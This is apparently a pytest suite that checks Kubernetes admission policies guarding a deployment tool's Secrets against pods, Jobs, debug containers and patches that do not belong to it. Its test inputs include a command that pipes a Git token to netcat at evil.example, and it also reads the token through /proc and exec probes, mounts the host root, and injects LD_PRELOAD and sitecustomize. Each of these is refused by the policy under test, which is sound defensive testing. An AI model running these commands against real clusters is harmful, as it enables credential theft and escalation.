"""Scenario h: what RBAC cannot limit, enforced by the real apiserver's ValidatingAdmissionPolicies as shipped
(manifests/base/admission.yaml): the ServiceAccount's `patch` on an Application asks for a refresh and changes
nothing else; every pod, Job or CronJob of the namespace that holds cutover's Secrets is one of cutover's, whoever
writes it and whatever its ServiceAccount (image and entrypoint, command and flags, environment, no probes or
lifecycle hooks, securityContext, volumes and where they are mounted), and Pod Security `restricted` holds there;
the Leases it creates are its own."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from ruamel.yaml import YAML

from cutover.kube import nudge_job
from tier.cluster import ROOT, Tier
from tier.images import IMAGE, IMAGE_GIT

REFRESH = {"metadata": {"annotations": {"argocd.argoproj.io/refresh": "normal"}}}


def patch_application(tier: Tier, patch: dict[str, Any], *, dry_run: bool = False) -> Any:
    return tier.kubectl("-n", "argocd", "patch", "application", "llm-serving", "--type", "merge",
                        *(["--dry-run=server"] if dry_run else []), "-p", json.dumps(patch), as_sa=True, check=False)


@pytest.fixture(scope="module", autouse=True)
def enforced(tier: Tier) -> None:
    """The apiserver loads a new ValidatingAdmissionPolicy and its binding asynchronously: right after the install,
    a patch they refuse may still pass (a loaded machine saw `spec.project: default` patched through). Wait until a
    server-side dry run of one is refused, which changes nothing."""
    def refused() -> bool:
        done = tier.kubectl("-n", "argocd", "patch", "application", "llm-serving", "--type", "merge",
                            "--dry-run=server", "-p", json.dumps({"spec": {"project": "default"}}), as_sa=True,
                            check=False)
        return done.returncode != 0 and "cutover-application-refresh-only" in done.stderr

    tier.wait("the admission policies enforced", refused, 60)


def test_the_service_account_may_refresh_an_application(tier: Tier) -> None:
    done = patch_application(tier, REFRESH)
    assert done.returncode == 0, done.stderr


def test_the_service_account_may_write_the_applications_notice(tier: Tier) -> None:
    """ArgoCD 3.5's banner on the Application's page: where a cutover stands (core/notice.py)."""
    notice = {"metadata": {"annotations": {"notice.argocd.argoproj.io/content": "cutover reasoning-long: verified",
                                           "notice.argocd.argoproj.io/severity": "info"}}}
    done = patch_application(tier, notice, dry_run=True)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(("patch", "words"), [
    ({"spec": {"project": "default"}}, "may not change an Application's spec"),
    ({"spec": {"source": {"repoURL": "https://evil.example/x.git"}}}, "may not change an Application's spec"),
    ({"spec": {"destination": {"namespace": "kube-system"}}}, "may not change an Application's spec"),
    ({"operation": {"sync": {"revision": "HEAD"}}}, "may not start an operation"),
    ({"metadata": {"labels": {"team": "someone-else"}}}, "labels, finalizers or owner references"),
    ({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "cutover-plan",
                                        "uid": "00000000-0000-0000-0000-000000000000"}]}},
     "labels, finalizers or owner references"),
    ({"metadata": {"annotations": {"argocd.argoproj.io/sync-options": "Prune=false"}}}, "no annotation"),
    ({"metadata": {"annotations": {**REFRESH["metadata"]["annotations"], "notes": "x"}}}, "no annotation"),
    # a notice is text and a colour: no link (a URL in ArgoCD's UI is a phishing lure), no permanence, in bounds
    ({"metadata": {"annotations": {"notice.argocd.argoproj.io/url": "https://evil.example/login"}}}, "no annotation"),
    ({"metadata": {"annotations": {"notice.argocd.argoproj.io/content": "x" * 501}}}, "at most 500 characters"),
    ({"metadata": {"annotations": {"notice.argocd.argoproj.io/severity": "blink"}}}, "of severity info, warning"),
])
def test_the_service_account_may_change_nothing_else_on_an_application(tier: Tier, patch: dict[str, Any],
                                                                        words: str) -> None:
    before = tier.kubectl("-n", "argocd", "get", "application", "llm-serving", "-o", "json").stdout
    done = patch_application(tier, patch, dry_run=True)  # admission answers a dry run alike; nothing could stay
    assert done.returncode != 0 and "cutover-application-refresh-only" in done.stderr and words in done.stderr, \
        done.stderr
    after = tier.kubectl("-n", "argocd", "get", "application", "llm-serving", "-o", "json").stdout
    assert json.loads(after)["spec"] == json.loads(before)["spec"]


def shipped_job() -> dict[str, Any]:
    """The cutover-run CronJob's Job as shipped (jobs/cutover-run.yaml), with the tier's image."""
    cronjob = YAML(typ="safe").load((ROOT / "jobs" / "cutover-run.yaml").read_text())
    job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "borrowed", "namespace": "cutover"},
           "spec": copy.deepcopy(cronjob["spec"]["jobTemplate"]["spec"])}
    job["spec"]["template"]["spec"]["containers"][0]["image"] = IMAGE
    return job


def create(tier: Tier, obj: dict[str, Any], name: str) -> Any:
    """Created as a workload writer (or ArgoCD syncing one's commit) creates it: not as the ServiceAccount, and
    with `--dry-run=server`, so admission answers and nothing stays."""
    path = tier.dir / f"{name}.json"
    path.write_text(json.dumps(obj))
    return tier.kubectl("create", "--dry-run=server", "-f", str(path), check=False)


def container(job: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = job["spec"]["template"]["spec"]["containers"][0]
    return found


SHIPPED = ["hooks/presync-job.yaml", "hooks/postsync-job.yaml", "hooks/syncfail-job.yaml", "jobs/cutover-run.yaml",
           "jobs/cutover-rollback.yaml", "jobs/cutover-audit.yaml"]


@pytest.mark.parametrize("path", SHIPPED)
def test_every_shipped_job_and_cronjob_passes(tier: Tier, path: str) -> None:
    """As shipped, args included (the audit's `--exit-zero` once met a policy that did not know it, and ArgoCD's
    sync of the workload failed on the refused CronJob)."""
    obj = YAML(typ="safe").load((ROOT / path).read_text())
    pod = obj["spec"]["jobTemplate"]["spec"]["template"]["spec"] if obj["kind"] == "CronJob" else \
        obj["spec"]["template"]["spec"]
    pod["containers"][0]["image"] = IMAGE
    done = create(tier, obj, path.replace("/", "-"))
    assert done.returncode == 0, done.stderr


def test_a_fleets_jobs_pass(tier: Tier) -> None:
    """fleet/ (docs/fleet.md): the verifier is the shipped PostSync pod with `verify --synced` (a flag the policy
    lists) and another deadline; the gate and SyncFail are the hooks' own. Each, built by kustomize, is admitted."""
    built = tier.kubectl("kustomize", str(ROOT / "fleet")).stdout
    jobs = [doc for doc in YAML(typ="safe").load_all(built) if doc and doc["kind"] == "Job"]
    assert sorted(job["metadata"]["name"] for job in jobs) == ["cutover-presync", "cutover-syncfail", "cutover-verify"]
    for job in jobs:
        job["spec"]["template"]["spec"]["containers"][0]["image"] = IMAGE
        done = create(tier, job, f"fleet-{job['metadata']['name']}")
        assert done.returncode == 0, (job["metadata"]["name"], done.stderr)


DIGEST = IMAGE.split("@")[1]
DIGEST_LISTED = "runs cutover's image by a digest the operator lists"


def _image(job: dict[str, Any], image: str) -> None:
    container(job)["image"] = image


def _command(job: dict[str, Any]) -> None:
    container(job)["command"] = ["/bin/sh", "-c", "cat /var/run/secrets/cutover/git/token | nc evil.example 80"]


def _host_path(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}})


def _other_secret(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["volumes"].append({"name": "x", "secret": {"secretName": "argocd-secret"}})


def _init_container(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["initContainers"] = [{"name": "x", "image": "busybox", "args": ["true"]}]


def _host_network(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["hostNetwork"] = True


def _pod_field(name: str, value: Any) -> Any:
    def change(job: dict[str, Any]) -> None:
        job["spec"]["template"]["spec"][name] = value
    return change


def _container_field(name: str, value: Any) -> Any:
    def change(job: dict[str, Any]) -> None:
        container(job)[name] = value
    return change


NOT_SHIPPED = "sets no field the shipped template does not"


def _env(name: str, value: str) -> Any:
    return lambda job: container(job)["env"].append({"name": name, "value": value})


def _exec_probe(job: dict[str, Any]) -> None:  # the kubelet runs it inside the container, as the ServiceAccount
    container(job)["readinessProbe"] = {"exec": {"command": ["python3", "-c", "print(open('/var/run/secrets/"
                                                             "cutover/git/token').read())"]}}


def _post_start(job: dict[str, Any]) -> None:
    container(job)["lifecycle"] = {"postStart": {"exec": {"command": ["python3", "-c", "import os"]}}}


def _kubeconfig(job: dict[str, Any]) -> None:  # a kubeconfig's exec plugin runs any command
    container(job)["args"] = ["run", "--kubeconfig", "/etc/cutover/kubeconfig"]


def _sitecustomize(job: dict[str, Any]) -> None:  # the plan's ConfigMap holding Python, where Python imports it
    container(job)["volumeMounts"].append({"name": "plan", "mountPath": "/usr/lib/python3.12/sitecustomize.py",
                                           "subPath": "sitecustomize.py"})


def _writable_root(job: dict[str, Any]) -> None:
    container(job)["securityContext"]["readOnlyRootFilesystem"] = False


def _default_account(job: dict[str, Any]) -> None:
    job["spec"]["template"]["spec"]["serviceAccountName"] = "default"


def _volume(job: dict[str, Any], name: str) -> dict[str, Any]:
    found: dict[str, Any] = next(v for v in job["spec"]["template"]["spec"]["volumes"] if v["name"] == name)
    return found


def _renamed_key(job: dict[str, Any]) -> None:  # the review's N1: the token under another name, its bounds left out
    _volume(job, "git")["secret"]["items"] = [{"key": "token", "path": "t"}]


def _secret_elsewhere(job: dict[str, Any]) -> None:  # the Git Secret where Slack's webhook is read
    _volume(job, "slack")["secret"]["secretName"] = "cutover-git"


def _plan_path_is_a_secret(job: dict[str, Any]) -> None:  # the Git Secret where the plan is read
    volume = _volume(job, "plan")
    volume.clear()
    volume.update({"name": "plan", "secret": {"secretName": "cutover-git"}})


def _token_at_a_credential_path(job: dict[str, Any]) -> None:  # the pod's own token read as the Git token
    volume = _volume(job, "git")
    volume.clear()
    volume.update({"name": "git", "projected": {"sources": [{"serviceAccountToken": {
        "path": "token", "audience": "https://github.com"}}]}})


def _downward_bounds(job: dict[str, Any]) -> None:  # the bounds written from the pod's own annotations
    volume = _volume(job, "git")
    volume.clear()
    volume.update({"name": "git", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token"}},
        {"downwardAPI": {"items": [{"path": "repository", "fieldRef": {
            "fieldPath": "metadata.annotations['repository']"}}]}}]}})


def _resources(**asked: dict[str, str]) -> Any:
    return lambda job: container(job).update(resources=asked)


BOUNDS = "asks for cpu, memory and ephemeral-storage only"
PRIORITY = "names no priority class"


def _literal(name: str, value: str) -> Any:
    def change(job: dict[str, Any]) -> None:
        env = container(job)["env"]
        env[:] = [e for e in env if e["name"] != name] + [{"name": name, "value": value}]
    return change


@pytest.mark.parametrize(("why", "change", "words"), [
    ("another image", lambda job: _image(job, "busybox:1.36"), DIGEST_LISTED),
    ("an image of that name from another registry", lambda job: _image(job, f"evil.example/cutover@{DIGEST}"),
     DIGEST_LISTED),
    # the review's N3: a tag names whatever was pushed under it last (an older release, a CI build)
    ("cutover's image by a tag", lambda job: _image(job, "cutover.invalid/cutover:e2e"), DIGEST_LISTED),
    ("cutover's image by a tag and the digest", lambda job: _image(job, f"cutover.invalid/cutover:0.1.0@{DIGEST}"),
     DIGEST_LISTED),
    ("cutover's image by a digest not listed", lambda job: _image(job, f"cutover.invalid/cutover@sha256:{'0' * 64}"),
     DIGEST_LISTED),
    ("a command of its own", _command, "the image's own entrypoint"),
    ("an init container", _init_container, "the image's own entrypoint"),
    ("the host's filesystem", _host_path, "mounts only the plan"),
    ("someone else's Secret", _other_secret, "mounts only the plan"),
    ("the host's network", _host_network, "shares no host namespace"),
    # field by field: what the shipped template does not set (the review's "compare with the shipped template")
    ("a node of the writer's choosing by its labels", _pod_field("nodeSelector", {"kubernetes.io/hostname": "n1"}),
     NOT_SHIPPED),
    ("a node of the writer's choosing by affinity", _pod_field("affinity", {"nodeAffinity": {
        "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [
            {"key": "kubernetes.io/hostname", "operator": "In", "values": ["n1"]}]}]}}}), NOT_SHIPPED),
    ("a shared process namespace", _pod_field("shareProcessNamespace", True), NOT_SHIPPED),
    ("a hostname of its own", _pod_field("hostname", "api"), NOT_SHIPPED),
    ("a terminal", _container_field("tty", True), NOT_SHIPPED),
    ("a port", _container_field("ports", [{"containerPort": 8080}]), NOT_SHIPPED),
    # the review's routes to code running as the ServiceAccount, beside its Secrets
    ("the default ServiceAccount beside the Secrets", _default_account, "runs as the cutover ServiceAccount"),
    ("an exec probe", _exec_probe, "no probes, lifecycle hooks"),
    ("a postStart hook", _post_start, "no probes, lifecycle hooks"),
    ("PYTHONPATH", _env("PYTHONPATH", "/etc/cutover"), "sets only cutover's environment"),
    ("LD_PRELOAD", _env("LD_PRELOAD", "/etc/cutover/x.so"), "sets only cutover's environment"),
    ("a kustomize of its own", _env("CUTOVER_KUSTOMIZE", "/etc/cutover/kustomize"), "sets only cutover's environment"),
    ("a secrets directory that widens tokenFile", _env("CUTOVER_SECRETS_DIR", "/var/run/secrets"),
     "sets only cutover's environment"),
    ("a plan read from a Secret's file", _env("CUTOVER_PLAN", "/var/run/secrets/cutover/git/token"),
     "sets only cutover's environment"),
    ("a kubeconfig with an exec plugin", _kubeconfig, "one of cutover's commands"),
    ("the plan mounted as sitecustomize.py", _sitecustomize, "mounts at cutover's paths only"),
    ("a writable root", _writable_root, "keeps the shipped securityContext"),
    # round four (N1, N2, N9): each Secret whole and at its own path, the plan's path exact, the pod's own names
    ("the Git Secret with its key renamed (items)", _renamed_key, "whole (no items)"),
    ("the Git Secret mounted at Slack's path", _secret_elsewhere, "each of cutover's volumes at its own path"),
    ("the Git Secret mounted where the plan is read", _plan_path_is_a_secret,
     "each of cutover's volumes at its own path"),
    ("a projected token at the Git Secret's path", _token_at_a_credential_path, "the ServiceAccount's own volume"),
    ("bounds from the pod's annotations", _downward_bounds, "the ServiceAccount's own volume"),
    ("a plan path leaving /etc/cutover", _literal("CUTOVER_PLAN", "/etc/cutover/../var/run/secrets/cutover/git/t"),
     "CUTOVER_PLAN /etc/cutover/plan.yaml"),
    ("a Lease holder of another pod's name", _literal("POD_NAME", "cutover-postsync-llm-serving-x"),
     "from the pod's own name and namespace"),
    ("a termination message read from the token", lambda job: container(job).update(
        terminationMessagePath="/var/run/secrets/cutover/git/token"), "termination message at /dev/termination-log"),
    ("a node of its choosing", lambda job: job["spec"]["template"]["spec"].update(nodeName="control-plane"),
     "placed by the scheduler"),
    ("a runtime of its choosing", lambda job: job["spec"]["template"]["spec"].update(runtimeClassName="runc-old"),
     "placed by the scheduler"),
    # resources within bounds: no device beside the Secrets, no node's room taken; no rank that evicts others
    ("a GPU beside the Secrets", _resources(limits={"nvidia.com/gpu": "1"}), BOUNDS),
    ("hugepages", _resources(requests={"hugepages-2Mi": "2Mi", "memory": "96Mi"},
                             limits={"hugepages-2Mi": "2Mi", "memory": "96Mi"}), BOUNDS),
    ("a node's memory", _resources(requests={"cpu": "50m", "memory": "64Gi"}), BOUNDS),
    ("a node's cores as a limit", _resources(requests={"cpu": "50m"}, limits={"cpu": "32"}), BOUNDS),
    ("a system priority class", _pod_field("priorityClassName", "system-node-critical"), PRIORITY),
    ("a preemption policy", _pod_field("preemptionPolicy", "PreemptLowerPriority"), PRIORITY),
    ("a toleration of the control plane's taint", lambda job: job["spec"]["template"]["spec"].update(tolerations=[
        {"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}]),
     "placed by the scheduler"),
])
def test_a_job_beside_the_secrets_that_is_not_cutovers_is_refused(tier: Tier, why: str, change: Any,
                                                                  words: str) -> None:
    job = shipped_job()
    change(job)
    done = create(tier, job, "borrowed")
    assert done.returncode != 0 and "cutover-pod-pinned" in done.stderr and words in done.stderr, (why, done.stderr)


@pytest.mark.parametrize("why", ["a Job of its own", "the default ServiceAccount"])
def test_a_further_workloads_credentials_namespace_is_pinned_alike(tier: Tier, why: str) -> None:
    """A further workload's credentials namespace (manifests/namespace under `cutover-chat-prod`, as the tier's
    cutover Application renders it) carries the label, so cutover-pod-pinned and Pod Security hold there too: its
    Secrets are no more open to a pod of another's than `cutover`'s are."""
    job = shipped_job()
    job["metadata"]["namespace"] = "cutover-chat-prod"
    (_command if why == "a Job of its own" else _default_account)(job)
    done = create(tier, job, "borrowed-chat-prod")
    assert done.returncode != 0 and "cutover-pod-pinned" in done.stderr, (why, done.stderr)
    labels = tier.core.read_namespace("cutover-chat-prod").metadata.labels
    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"
    job = shipped_job()
    job["metadata"]["namespace"] = "cutover-chat-prod"
    assert create(tier, job, "shipped-chat-prod").returncode == 0  # and its own shipped Job passes


def test_a_pod_of_its_own_beside_the_secrets_is_refused(tier: Tier) -> None:
    """The first finding: a pod (or a Job's pod) of another ServiceAccount that mounts cutover-git and sends it
    away; and a privileged one, which Pod Security `restricted` refuses too."""
    spec = shipped_job()["spec"]["template"]["spec"]
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "theirs", "namespace": "cutover"},
           "spec": {**spec, "serviceAccountName": "default"}}
    _command({"spec": {"template": {"spec": pod["spec"]}}})
    _image({"spec": {"template": {"spec": pod["spec"]}}}, "busybox:1.36")
    done = create(tier, pod, "theirs")
    assert done.returncode != 0 and "cutover-pod-pinned" in done.stderr, done.stderr
    privileged = {**pod, "spec": {**spec, "containers": [{**spec["containers"][0], "securityContext": {
        "privileged": True}}]}}
    done = create(tier, privileged, "privileged")
    assert done.returncode != 0 and ("cutover-pod-pinned" in done.stderr or "PodSecurity" in done.stderr), done.stderr
    # what only Pod Security checks: cutover's own pod without the RuntimeDefault seccomp profile
    unconfined = {**pod, "spec": {**spec, "securityContext": {
        key: value for key, value in spec["securityContext"].items() if key != "seccompProfile"}}}
    done = create(tier, unconfined, "unconfined")
    assert done.returncode != 0 and 'violates PodSecurity "restricted' in done.stderr, done.stderr


def test_a_debug_container_beside_the_secrets_is_refused(tier: Tier) -> None:
    """N9: `kubectl debug` adds an ephemeral container to a running pod, beside its mounts, through the pod's
    `ephemeralcontainers` subresource: judged as the pod it changes, and refused."""
    spec = shipped_job()["spec"]["template"]["spec"]
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "cutover-debugged", "namespace": "cutover"},
           "spec": spec}
    path = tier.dir / "cutover-debugged.json"
    path.write_text(json.dumps(pod))
    tier.kubectl("create", "-f", str(path))
    try:
        # as Pod Security `restricted` asks (it would refuse it first otherwise): the policy must refuse it itself
        debug = {"spec": {"ephemeralContainers": [{
            "name": "debugger", "image": "busybox:1.36", "targetContainerName": "cutover",
            "command": ["cat", "/proc/1/root/var/run/secrets/cutover/git/token"],
            "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]},
                                "runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}}}]}}
        done = tier.kubectl("-n", "cutover", "patch", "pod", "cutover-debugged", "--subresource", "ephemeralcontainers",
                            "--type", "strategic", "-p", json.dumps(debug), check=False)
        assert done.returncode != 0 and "cutover-pod-pinned" in done.stderr, done.stderr
    finally:
        tier.kubectl("-n", "cutover", "delete", "pod", "cutover-debugged", "--wait=false", check=False)


def test_resources_within_bounds_pass(tier: Tier) -> None:
    """What may vary: a cluster that gives cutover's Jobs more room (a large repository's clone, a slow node) sets
    resources up to the bounds, in any unit the API takes."""
    for asked in ({"requests": {"cpu": "2", "memory": "2Gi", "ephemeral-storage": "1Gi"},
                   "limits": {"cpu": "2000m", "memory": "2048Mi", "ephemeral-storage": "2Gi"}},
                  {"requests": {"memory": "0.5Gi"}}, {}):
        job = shipped_job()
        container(job)["resources"] = asked
        done = create(tier, job, "roomier")
        assert done.returncode == 0, (asked, done.stderr)


def test_a_pod_at_a_system_priority_is_refused(tier: Tier) -> None:
    """A pod the policy judges as a pod (a Deployment's, or one of its own) carries the priority the apiserver wrote
    from its class: the cluster's default passes, a system class's rank (it evicts any pod to place this one) does
    not."""
    spec = shipped_job()["spec"]["template"]["spec"]
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "cutover-critical", "namespace": "cutover"},
           "spec": {**spec, "priorityClassName": "system-cluster-critical"}}
    done = create(tier, pod, "critical")
    assert done.returncode != 0 and "cutover-pod-pinned" in done.stderr and PRIORITY in done.stderr, done.stderr


def test_the_commands_people_run_from_the_cronjobs_pass(tier: Tier) -> None:
    for args in (["rollback"], ["run", "--to", "candle", "--dry-run"], ["verify", "--backend", "candle", "--wait"],
                 ["status", "--output", "json"], ["audit", "--name", "reasoning-long"]):
        job = shipped_job()
        container(job)["args"] = args
        done = create(tier, job, "people")
        assert done.returncode == 0, (args, done.stderr)


@pytest.mark.parametrize(("name", "allowed"), [("cutover-some-service", True), ("kube-scheduler", False)])
def test_the_service_account_creates_only_its_own_leases(tier: Tier, name: str, allowed: bool) -> None:
    lease = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
             "metadata": {"name": name, "namespace": "llm-serving"}, "spec": {"holderIdentity": "x"}}
    path = tier.dir / f"lease-{name}.json"
    path.write_text(json.dumps(lease))
    done = tier.kubectl("create", "--dry-run=server", "-f", str(path), as_sa=True, check=False)
    assert (done.returncode == 0) is allowed, done.stderr
    if not allowed:
        assert "cutover-lease-names" in done.stderr


@pytest.mark.parametrize(("why", "metadata", "allowed"), [
    ("cutover's own Application", {"annotations": {
        "argocd.argoproj.io/tracking-id": "cutover:networking.k8s.io/NetworkPolicy:cutover/open"}}, True),
    ("an administrator's kubectl", {}, True),
    ("the workload's Application", {"annotations": {
        "argocd.argoproj.io/tracking-id": "llm-serving:networking.k8s.io/NetworkPolicy:cutover/open"}}, False),
    ("the workload's Application, label tracking", {"labels": {"app.kubernetes.io/instance": "llm-serving"}}, False),
    # the review's N8: ArgoCD's instanceLabelKey set to the key its docs suggest
    ("the workload's Application, label tracking on argocd.argoproj.io/instance",
     {"labels": {"argocd.argoproj.io/instance": "llm-serving"}}, False),
])
def test_only_cutovers_application_writes_the_network_policies_beside_the_secrets(
        tier: Tier, why: str, metadata: dict[str, Any], allowed: bool) -> None:
    """An egress to anywhere, committed by a writer of the workload's path (its project may write NetworkPolicies
    and may write in `cutover`): refused; the same from cutover's own Application or an administrator: admitted."""
    policy = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
              "metadata": {"name": "open", "namespace": "cutover", **metadata},
              "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]}}
    if not allowed:  # a policy the apiserver loaded moments ago may not be enforced yet (`enforced` above)
        done = tier.wait("the refusal", lambda: next(iter([d for d in [create(tier, policy, "open")]
                                                           if d.returncode != 0]), None), 30)
        assert "cutover-networkpolicies-owned" in done.stderr and "its own Application's" in done.stderr
    else:
        done = create(tier, policy, "open")
        assert done.returncode == 0, (why, done.stderr)



PORT, PLAIN = "registry.example.com:5000/platform/cutover", "registry.example.com/platform/cutover"
A, B, C = (f"sha256:{digit * 64}" for digit in "abc")
UNLISTED = "cutover.invalid/cutover-also"  # `also` as shipped: renamed by no `images:` entry, it admits nothing
RENAMED = [  # the image and also variables as the replacements write them: images admitted, images refused
    (f"{PORT}@{A}", UNLISTED, [f"{PORT}@{A}"],
     [f"{PORT}:0.1.0", f"{PORT}@{B}", f"{PORT}-evil@{A}", f"{PORT}/evil@{A}", UNLISTED]),
    (f"{PLAIN}@{A}", f"{PLAIN}@{B}", [f"{PLAIN}@{A}", f"{PLAIN}@{B}"], [f"{PLAIN}@{C}", f"{PLAIN}:0.1.0"]),
    (f"{PLAIN}:0.1.0", UNLISTED, [], [f"{PLAIN}:0.1.0", f"{PLAIN}@{A}"]),  # a tag listed: no pod at all
]


def _renamed_policy(tier: Tier, shipped: dict[str, Any], number: int, image: str, also: str) -> None:
    """The shipped pod policy under another name, its `image` and `also` variables as a rename writes them, for a
    namespace of this test's own."""
    name, namespace = f"cutover-pod-pinned-renamed-{number}", f"renamed-{number}"
    policy = {"apiVersion": shipped["apiVersion"], "kind": shipped["kind"], "metadata": {"name": name},
              "spec": copy.deepcopy(shipped["spec"])}
    policy["spec"]["matchConstraints"]["namespaceSelector"] = {"matchLabels": {"cutover.dev/renamed": str(number)}}
    for variable in policy["spec"]["variables"]:
        if variable["name"] in ("image", "also"):
            variable["expression"] = f"'{image if variable['name'] == 'image' else also}'"
    binding = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicyBinding",
               "metadata": {"name": name}, "spec": {"policyName": name, "validationActions": ["Deny"]}}
    for obj, file in ((policy, "policy"), (binding, "binding")):
        (tier.dir / f"{name}-{file}.json").write_text(json.dumps(obj))
        tier.kubectl("apply", "-f", str(tier.dir / f"{name}-{file}.json"))
    tier.kubectl("create", "namespace", namespace)
    tier.kubectl("label", "namespace", namespace, f"cutover.dev/renamed={number}")


def test_a_renamed_image_is_the_one_the_pod_policy_admits(tier: Tier) -> None:
    """The pod policy's `image` and `also` variables hold what kustomize's `images:` made of image.yaml; a pod runs
    exactly one of them, by its digest, never a tag (the review's N3: any older release or CI build pushed under a
    tag would run beside the Secrets). Judged by the real apiserver (the CEL compiles, and means what it says)."""
    shipped = json.loads(tier.kubectl("get", "validatingadmissionpolicy", "cutover-pod-pinned", "-o", "json").stdout)
    for number, (image, also, *_) in enumerate(RENAMED):
        _renamed_policy(tier, shipped, number, image, also)

    def judged(number: int, image: str) -> Any:
        job = shipped_job()
        job["metadata"]["namespace"] = f"renamed-{number}"
        _image(job, image)
        return create(tier, job, f"renamed-{number}")

    tier.wait("the renamed policies enforced", lambda: all(
        judged(number, refused[0]).returncode != 0 for number, (*_, refused) in enumerate(RENAMED)), 60)
    for number, (image, _, admitted, refused) in enumerate(RENAMED):
        for allowed in admitted:
            done = judged(number, allowed)
            assert done.returncode == 0, (image, allowed, done.stderr)
        for other in refused:
            done = judged(number, other)
            assert done.returncode != 0 and DIGEST_LISTED in done.stderr, (image, other, done.stderr)
    done = judged(2, f"{PLAIN}:0.1.0")
    assert "none listed" in done.stderr, done.stderr  # says why no pod passes


def test_the_with_git_target_is_admitted_as_also(tier: Tier) -> None:
    """The tier lists the with-git target's digest as `also`, as an operator lists the release before during an
    upgrade: both pass, by digest."""
    for image in (IMAGE, IMAGE_GIT):
        job = shipped_job()
        _image(job, image)
        done = create(tier, job, "also")
        assert done.returncode == 0, (image, done.stderr)


def nudge_of_the_shipped_audit() -> dict[str, Any]:
    """The nudge's Job as a hook makes it (kube/nudge_job.py) from the shipped audit CronJob, with the tier's
    image."""
    cronjob = YAML(typ="safe").load((ROOT / "jobs" / "cutover-audit.yaml").read_text())
    cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] = \
        IMAGE
    return nudge_job.nudge_job(cronjob, name=nudge_job.job_name("cutover-audit", 1765000000))


def test_the_service_account_makes_its_nudge_from_the_audit_cronjob(tier: Tier) -> None:
    """docs/sources.md, "After the hook": as the ServiceAccount, the CronJob read and the nudge's Job created, which
    cutover-pod-pinned admits (it is the CronJob's pod) and cutover-jobs-nudge-only too."""
    read = tier.kubectl("-n", "cutover", "auth", "can-i", "get", "cronjobs", as_sa=True, check=False)
    assert read.stdout.strip() == "yes", read.stderr
    path = tier.dir / "nudge.json"
    path.write_text(json.dumps(nudge_of_the_shipped_audit()))
    done = tier.kubectl("create", "--dry-run=server", "-f", str(path), as_sa=True, check=False)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("args", [["run", "--to", "candle"], ["rollback"], ["audit"], ["nudge", "--dry-run"]])
def test_the_service_account_makes_no_other_job(tier: Tier, args: list[str]) -> None:
    """Its `create` on Jobs starts no cutover, rollback or audit: a token taken from a pod could otherwise switch
    the Service to any backend of the plan."""
    job = nudge_of_the_shipped_audit()
    container(job)["args"] = args
    path = tier.dir / "not-a-nudge.json"
    path.write_text(json.dumps(job))
    done = tier.kubectl("create", "--dry-run=server", "-f", str(path), as_sa=True, check=False)
    assert done.returncode != 0 and "cutover-jobs-nudge-only" in done.stderr, done.stderr
